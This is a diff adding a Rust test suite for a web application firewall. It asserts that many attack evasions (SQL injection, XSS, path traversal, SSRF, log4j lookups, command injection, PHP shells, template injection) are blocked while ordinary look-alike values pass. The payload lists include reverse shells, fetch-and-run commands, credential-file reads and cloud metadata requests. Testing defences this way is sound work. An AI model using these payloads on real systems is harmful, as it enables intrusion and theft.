@@ -1,0 +1,382 @@
+//! Evasion forms the engine must deny, written for this suite (not taken
+//! from the dev corpus or a published payload list): for each class, the
+//! spellings by which one attack dodges a literal match — encodings, case,
+//! comments, quoting, globs, alternative syntax, indirect sinks. Each value
+//! is sent as a query parameter to a balanced profile. Ordinary values that
+//! hold the same bytes must pass.
+#![allow(clippy::expect_used)]
+
+mod common;
+
+use common::query;
+use rampart_waf::{Profile, ProfileConfig, Verdict};
+
+fn balanced() -> Profile {
+    Profile::compile("evasions", &ProfileConfig::default()).expect("profile compiles")
+}
+
+/// Every value of `values` is denied; the message lists all that pass.
+fn assert_denied(values: &[&str]) {
+    let p = balanced();
+    let passed: Vec<&str> = values
+        .iter()
+        .copied()
+        .filter(|v| query(&p, v) == Verdict::Allow)
+        .collect();
+    assert!(passed.is_empty(), "allowed: {passed:#?}");
+}
+
+/// SQL injection: comment and case games, dialect operators, blind and error-based forms, subqueries.
+const SQLI: &[&str] = &[
+    r#"1'/**/OR/**/1=1-- -"#,
+    r#"1' oR 'a'='a"#,
+    r#"1' || '1'='1"#,
+    r#"1' and 1=1#"#,
+    r#"1'/*!50000union*/ /*!50000select*/ 1,2--"#,
+    r#"-1 union select 1,2,3"#,
+    r#"1e0union select 1,2"#,
+    r#"1' and ascii(substring(user(),1,1))>64--"#,
+    r#"admin'--"#,
+    r#"' or ''='"#,
+    r#"1;waitfor delay '0:0:5'--"#,
+    r#"1 and sleep(5)"#,
+    r#"1' and extractvalue(1,concat(0x7e,version()))--"#,
+    r#"1'||pg_sleep(5)--"#,
+    r#"1'%0aor%0a1=1--"#,
+    r#"1 AND 1=1"#,
+    r#"1' AND '1'='1"#,
+    r#"x' AND 1=(SELECT COUNT(*) FROM tabname); --"#,
+    r#"1 OR 1=1"#,
+    r#"1) or (1=1"#,
+    r#"1' UNION ALL SELECT NULL,NULL,NULL-- -"#,
+    r#"1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"#,
+    r#"' AND 1=CONVERT(int,(SELECT @@version))--"#,
+    r#"1' ORDER BY 3--+"#,
+    r#"1' GROUP BY 1,2,3--"#,
+    r#"1 AND (SELECT substr(password,1,1) FROM users LIMIT 1)='a'"#,
+    r#"'; DROP TABLE users; --"#,
+    r#"1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--"#,
+    r#"' or true--"#,
+    r#"') or ('x')=('x"#,
+    r#"1' and '1'like'1"#,
+    r#"1'and(select*from(select(sleep(5)))a)--"#,
+    r#"1 && 1=1"#,
+    r#"1 || 1=1"#,
+    r#"1' xor 1=1--"#,
+    r#"-1' union select @@version,user()#"#,
+    r#"admin' #"#,
+    r#"1' and updatexml(1,concat(0x7e,(select user())),1)--"#,
+    r#"1;select pg_sleep(5)"#,
+    r#"1 and 1 in (select 1)"#,
+    r#"1' and 'a' between 'a' and 'z'--"#,
+    r#"1 AnD 1=1"#,
+    r#"1' /*!OR*/ '1'='1"#,
+    r#"1'	or	1=1--"#,
+    r#"1' or 1=1 limit 1-- -"#,
+    r#"' UNION SELECT username, password FROM users--"#,
+    r#"1' and substring(@@version,1,1)=5--"#,
+];
+
+/// Cross-site scripting: handlers, URI schemes behind entities, broken tags, sinks named indirectly.
+const XSS: &[&str] = &[
+    r#"<svg/onload=alert(1)>"#,
+    r#"<img src=x onerror=alert`1`>"#,
+    r#"<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">"#,
+    r#"<a href="javascript&colon;alert(1)">x</a>"#,
+    r#"<a href="jav&#x09;ascript:alert(1)">x</a>"#,
+    r#"<details open ontoggle=alert(1)>"#,
+    r#""><script>alert(String.fromCharCode(88,83,83))</script>"#,
+    r#"<x onpointerenter=alert(1)>"#,
+    r#"'-alert(1)-'"#,
+    r#"\";alert(1);//"#,
+    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
+    r#"{{constructor.constructor('alert(1)')()}}"#,
+    r#"<body onload=alert(1)>"#,
+    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"#,
+    r#"<svg><animate onbegin=alert(1) attributeName=x>"#,
+    r#"<input autofocus onfocus=alert(1)>"#,
+    r#"javascript:alert(document.domain)"#,
+    r#"<img src=x oNeRrOr=confirm(1)>"#,
+    r#"<svg><script>alert&#40;1&#41;</script>"#,
+    r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>"#,
+    r#"<img src=x:alert(alt) onerror=eval(src) alt=0>"#,
+    r#"<svg onload=alert&lpar;1&rpar;>"#,
+    r#"<iframe src="javascript:alert(1)">"#,
+    r#"<form><button formaction=javascript:alert(1)>x"#,
+    r#"<marquee onstart=alert(1)>"#,
+    r#"</script><script>alert(1)</script>"#,
+    r#"<style>@import'http://x.example/x.css';</style>"#,
+    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
+    r#"';alert(1)//"#,
+    r#"\u0027;alert(1)//"#,
+    r#"top["al"+"ert"](1)"#,
+    r#"window['ale'+'rt'](document.cookie)"#,
+    r#"setTimeout('ale'+'rt(1)')"#,
+    r#"eval(atob('YWxlcnQoMSk='))"#,
+    r#"Function('ale'+'rt(1)')()"#,
+    r#"[1].map(alert)"#,
+    r#"onerror=alert;throw 1"#,
+    r#"import('//x.example/a.js')"#,
+];
+
+/// Path traversal and local files: encodings of the dot and the slash, Windows paths, well-known files.
+const LFI: &[&str] = &[
+    r#"....//....//....//etc/passwd"#,
+    r#"..%252f..%252f..%252fetc%252fpasswd"#,
+    r#"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"#,
+    r#"..\..\..\windows\win.ini"#,
+    r#"/etc/passwd%00.jpg"#,
+    r#"php://filter/convert.base64-encode/resource=index.php"#,
+    r#"file:///etc/passwd"#,
+    r#"/proc/self/environ"#,
+    r#"..%5c..%5c..%5cboot.ini"#,
+    r#"/var/log/apache2/access.log"#,
+    r#"~/.ssh/id_rsa"#,
+    r#"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"#,
+    r#"..;/..;/..;/etc/passwd"#,
+    r#"..%2f..%2f..%2fetc/passwd"#,
+    r#"%252e%252e%252fetc%252fpasswd"#,
+    r#"..%c0%af..%c0%afetc/passwd"#,
+    r#"..%ef%bc%8f..%ef%bc%8fetc/passwd"#,
+    r#".%2e/.%2e/etc/passwd"#,
+    r#"/etc//passwd"#,
+    r#"/etc/./passwd"#,
+    r#"....\/....\/etc/passwd"#,
+    r#"..///////..////etc/passwd"#,
+    r#"C:/Windows/System32/drivers/etc/hosts"#,
+    r#"\\?\C:\windows\win.ini"#,
+    r#"../WEB-INF/web.xml"#,
+    r#"../.git/config"#,
+    r#"../../.env"#,
+    r#"/proc/1/environ"#,
+];
+
+/// Server-side request forgery: every spelling of an internal or metadata address, internal schemes.
+const SSRF: &[&str] = &[
+    r#"http://169.254.169.254/latest/meta-data/"#,
+    r#"http://[::ffff:169.254.169.254]/"#,
+    r#"http://2852039166/latest/meta-data/"#,
+    r#"http://0xA9FEA9FE/"#,
+    r#"http://0251.0376.0251.0376/"#,
+    r#"http://metadata.google.internal/computeMetadata/v1/"#,
+    r#"http://127.1/admin"#,
+    r#"gopher://127.0.0.1:6379/_SET%20x"#,
+    r#"dict://127.0.0.1:11211/stats"#,
+    r#"http://[fd00:ec2::254]/latest/meta-data/"#,
+    r#"http://100.100.100.200/latest/meta-data/"#,
+    r#"http://0/"#,
+    r#"http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/"#,
+    r#"http://169.254.169.254.nip.io/"#,
+    r#"http://127.0.0.1.nip.io/"#,
+    r#"http://localhost:6379/"#,
+    r#"http://[::1]:22/"#,
+    r#"http://[0:0:0:0:0:ffff:127.0.0.1]/"#,
+    r#"http://0x7f.0.0.1/"#,
+    r#"http://017700000001/"#,
+    r#"http://127.000.000.1/"#,
+    r#"http://evil.example@127.0.0.1/"#,
+    r#"http://127.0.0.1#@evil.example/"#,
+    r#"http:/\127.0.0.1/"#,
+    r#"//169.254.169.254/latest/meta-data/"#,
+    r#"http://instance-data/latest/meta-data/"#,
+    r#"ldap://127.0.0.1/"#,
+    r#"jar:http://127.0.0.1!/"#,
+    r#"netdoc:///etc/passwd"#,
+    r#"http://0177.1/"#,
+    r#"http://metadata/computeMetadata/v1/"#,
+    r#"http://169.254.170.2/v2/credentials"#,
+    r#"http://10.0.0.1/admin"#,
+];
+
+/// Java: log4j lookups, nested and encoded; deserialisation; OGNL and SpEL; class-loader parameters.
+const JAVA: &[&str] = &[
+    r#"${jndi:ldap://x.example/a}"#,
+    r#"${${lower:j}ndi:ldap://x/a}"#,
+    r#"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"#,
+    r#"${j${k8s:k5:-ND}i:ldap://x/a}"#,
+    r#"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}"#,
+    r#"%24%7Bjndi:ldap://x/a%7D"#,
+    r#"${jndi:dns://x.example/a}"#,
+    r#"${${upper:j}ndi:ldap://x/a}"#,
+    r#"${jnd${upper:i}:ldap://x/a}"#,
+    r#"${${date:'j'}${date:'n'}di:ldap://x/a}"#,
+    r#"${j${::-n}di:ldap://x/a}"#,
+    r#"${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}"#,
+    r#"${${sys:foo:-j}ndi:ldap://x/a}"#,
+    r#"%24%7B%6A%6E%64%69:ldap://x/a%7D"#,
+    r#"$%7Bjndi:ldap://x/a%7D"#,
+    r#"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="#,
+    r#"<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array></object></java>"#,
+    r#"#{T(java.lang.Runtime).getRuntime().exec('id')}"#,
+    r#"%{(#_='multipart/form-data').(#cmd='id')}"#,
+    r#"${@java.lang.Runtime@getRuntime().exec('id')}"#,
+    r#"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"#,
+];
+
+/// Command injection: separators, quoting and expansion tricks, globs, encodings, Windows.
+const CMDI: &[&str] = &[
+    r#";ls -la"#,
+    r#"$(id)"#,
+    r#"`id`"#,
+    r#"|| id"#,
+    r#"%0aid"#,
+    r#";cat</etc/passwd"#,
+    r#";c\a\t /e\t\c/pa\s\swd"#,
+    r#";$'\x63\x61\x74' /etc/passwd"#,
+    r#";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"#,
+    r#";"$(printf 'c\x61t')" /etc/passwd"#,
+    r#";cat /e??/p*d"#,
+    r#";rev<<<'dwssap/cte/ tac'|sh"#,
+    r#"& ping -n 1 10.0.0.1"#,
+    r#"| type C:\windows\win.ini"#,
+    r#";curl http://10.0.0.1/x|sh"#,
+    r#"a%0a%0dwget http://10.0.0.1/x"#,
+    r#";sleep 5"#,
+    r#"|nslookup x.example"#,
+    r#";${PATH:0:1}bin${PATH:0:1}sh"#,
+    r#";tr '[A-Z]' '[a-z]'<<<'CAT /ETC/PASSWD'|sh"#,
+    r#";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"#,
+    r#";python -c 'import socket,os,pty;s=socket.socket()'"#,
+    r#";nc -e /bin/sh 10.0.0.1 4444"#,
+    r#"| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"#,
+    r#"& certutil -urlcache -f http://x.example/a.exe a.exe"#,
+    r#";awk 'BEGIN{system("id")}'"#,
+    r#";find / -name x -exec id \;"#,
+    r#"$(</etc/passwd)"#,
+    r#";cat${IFS%??}/etc/passwd"#,
+    r#";ca''t /etc/passwd"#,
+    r#";"c"a"t" /etc/passwd"#,
+    r#";c$()at /etc/passwd"#,
+    r#";c${x}at /etc/passwd"#,
+    r#";w'h'o'am'i"#,
+    r#"a|w\ho\am\i"#,
+    r#";/???/?s -l"#,
+    r#";echo${IFS}id|sh"#,
+    r#";printf '\151\144'|sh"#,
+    r#";X=$'\x69\x64';$X"#,
+];
+
+/// PHP: tags, wrappers, object injection, code-running calls.
+const PHP: &[&str] = &[
+    r#"<?php system($_GET['c']); ?>"#,
+    r#"<?=`$_GET[0]`?>"#,
+    r#"php://input"#,
+    r#"data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"#,
+    r#"expect://id"#,
+    r#"O:8:"stdClass":0:{}"#,
+    r#"<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));?>"#,
+    r#"phar://./uploads/x.jpg/x"#,
+    r#"zip://./uploads/x.zip#shell.php"#,
+    r#"assert($_POST[x])"#,
+    r#"passthru('id')"#,
+    r#"shell_exec('id')"#,
+    r#"preg_replace('/.*/e','system("id")','x')"#,
+    r#"${@phpinfo()}"#,
+    r#"{${system('id')}}"#,
+];
+
+/// NoSQL operators, shellshock, CRLF injection, XXE, template injection, prototype pollution.
+const OTHER: &[&str] = &[
+    r#"{"$where": "sleep(1000)"}"#,
+    r#"{"username": {"$ne": null}}"#,
+    r#"[$ne]=1"#,
+    r#"() { :;}; /bin/bash -c 'id'"#,
+    r#"%0d%0aSet-Cookie: x=1"#,
+    r#"%0d%0aLocation: http://x"#,
+    r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#,
+    r#"{{7*7}}"#,
+    r#"${7*7}"#,
+    r#"<%= 7*7 %>"#,
+    r#"#{7*7}"#,
+    r#"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"#,
+    r#"{{''.__class__.__mro__[1].__subclasses__()}}"#,
+    r#"${T(java.lang.Runtime).getRuntime().exec('id')}"#,
+    r#"__proto__[isAdmin]=true"#,
+    r#"constructor[prototype][isAdmin]=true"#,
+];
+
+/// Everyday values with the quotes, brackets, globs, slashes and keywords
+/// the forms above use.
+const ORDINARY: &[&str] = &[
+    "O'Reilly & Sons",
+    "Rock 'n' roll; live at 8",
+    "who? me",
+    "2*3 = 6 | 4*5 = 20",
+    "see [1] and [2]",
+    "What's new in v2.0?",
+    "../ is the parent directory",
+    "a.b@example.org",
+    "https://example.com/search?q=cats&page=2",
+    "Order #1234 - 2 items (select size at checkout)",
+    "if (a < b) { return a; }",
+    "The function (f) maps x to y",
+    "50% off | today only",
+    "Tom & Jerry; Itchy & Scratchy",
+    "price > 100 and < 200",
+    "I/O error on /dev/sda1",
+    "<3 love it",
+    "C:\\Users\\me\\Documents\\report.docx",
+    "C:\\fakepath\\holiday photo.jpg",
+    "Meet at 10:00; bring ID",
+    "select all that apply",
+    "Dear Sir/Madam, please find attached my CV.",
+    "It's 5' 11\" tall",
+    "user_name=alice; theme=dark",
+    "*.log\n*.tmp\nbuild/",
+    "rm -rf is a dangerous command, be careful",
+    "1 OR 2 rooms",
+    "en-GB,en;q=0.9",
+    "alert: your order has shipped",
+    "The ${price} placeholder is filled at checkout",
+];
+
+#[test]
+fn sqli_evasions_are_denied() {
+    assert_denied(SQLI);
+}
+
+#[test]
+fn xss_evasions_are_denied() {
+    assert_denied(XSS);
+}
+
+#[test]
+fn lfi_evasions_are_denied() {
+    assert_denied(LFI);
+}
+
+#[test]
+fn ssrf_evasions_are_denied() {
+    assert_denied(SSRF);
+}
+
+#[test]
+fn java_evasions_are_denied() {
+    assert_denied(JAVA);
+}
+
+#[test]
+fn cmdi_evasions_are_denied() {
+    assert_denied(CMDI);
+}
+
+#[test]
+fn php_evasions_are_denied() {
+    assert_denied(PHP);
+}
+
+#[test]
+fn other_class_evasions_are_denied() {
+    assert_denied(OTHER);
+}
+
+#[test]
+fn ordinary_values_with_the_same_bytes_pass() {
+    let p = balanced();
+    let denied: Vec<(&str, Verdict)> = ORDINARY
+        .iter()
+        .map(|v| (*v, query(&p, v)))
+        .filter(|(_, verdict)| *verdict != Verdict::Allow)
+        .collect();
+    assert!(denied.is_empty(), "denied: {denied:#?}");
+}
